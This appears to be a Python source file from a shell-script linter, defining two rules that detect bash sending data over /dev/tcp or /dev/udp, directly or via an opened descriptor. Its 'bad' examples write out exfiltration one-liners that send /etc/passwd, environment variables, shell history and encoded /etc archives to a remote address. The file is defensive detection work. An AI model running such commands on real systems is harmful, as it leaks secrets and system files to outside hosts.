"""SS1954 and SS1955: connections that bash opens itself."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from ...interpreter.model import Hit
from .invocation import Invocation
from .leaks import feeding
from .rule import dangerous, notable, rule, script_rule
from .secrets import sensitive
from .write_targets import redirected

_NETWORK = ("/dev/tcp/", "/dev/udp/")


@rule(
    "SS1954",
    "Writes to the network through a redirection",
    why="bash opens /dev/tcp/HOST/PORT itself; no program that a firewall or a person looks for is started.",
    instead="use curl or ssh, which name what is sent",
    on=">",
    bad=(
        "cat /etc/passwd > /dev/tcp/10.0.0.1/99",
        "env > /dev/tcp/10.0.0.1/99",
        "tar c /etc | cat > /dev/tcp/10.0.0.1/99",
    ),
    good=(
        "exec 3<>/dev/tcp/localhost/80",
        "echo > /dev/tcp/localhost/80",
        "echo hi > /dev/udp/10.0.0.1/514",
        "cat /etc/passwd > /tmp/x",
    ),
)
def through_redirection(call: Invocation) -> Hit | None:
    command = call.command
    for target in redirected(command):
        if target.path.startswith(_NETWORK):
            where = target.path.removeprefix("/dev/")
            if words := sensitive(command) or feeding(command):
                return dangerous(f"sends {words}, to {where}")
            opened = command.name in ("", ":", "exec", "true") and not command.arguments and command.stdin is None
            return None if opened else notable(f"sends something to {where}")
    return None


@script_rule(
    "SS1955",
    "Sends something through a connection that was opened before",
    why="The command that sends names only a number; where it leads stands elsewhere.",
    instead="use curl or ssh, which name what is sent and where",
    bad=(
        "exec 3<>/dev/tcp/10.0.0.1/99; env >&3",
        "exec 3<>/dev/tcp/10.0.0.1/99\ncat /etc/passwd 1>&3",
        "exec 5>/dev/udp/10.0.0.1/53; tar c /etc | base64 >&5",
        "exec {line}<>/dev/tcp/10.0.0.1/99; history >&$line",
        "exec >/dev/tcp/10.0.0.1/99; env",
    ),
    good=(
        "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        "exec 3>log; env >&3",
        "exec 3<>/dev/tcp/localhost/80; env >&2",
    ),
)
def through_descriptor(calls: Sequence[Invocation]) -> Iterator[Hit]:
    opened: dict[str, str] = {}
    for call in calls:
        command = call.command
        for redirect in command.redirects:
            target = redirect.target.shape
            if target.startswith(_NETWORK):
                if command.name == "exec" and redirect.operator != "<":
                    plain = "…" if "{" in command.source.partition("/dev/")[0] else "1"
                    opened[plain if redirect.descriptor is None else str(redirect.descriptor)] = target[5:]
            elif redirect.operator in (">&", "1>&", ">") and target.removeprefix("/dev/fd/") in opened:
                where = opened[target.removeprefix("/dev/fd/")]
                if words := sensitive(command) or feeding(command):
                    yield dangerous(f"sends {words}, to {where}", command.place)
                else:
                    yield notable(f"sends something to {where}", command.place)
        if "1" in opened and not command.redirects and (words := sensitive(command)):
            yield dangerous(f"sends {words}, to {opened['1']}", command.place)
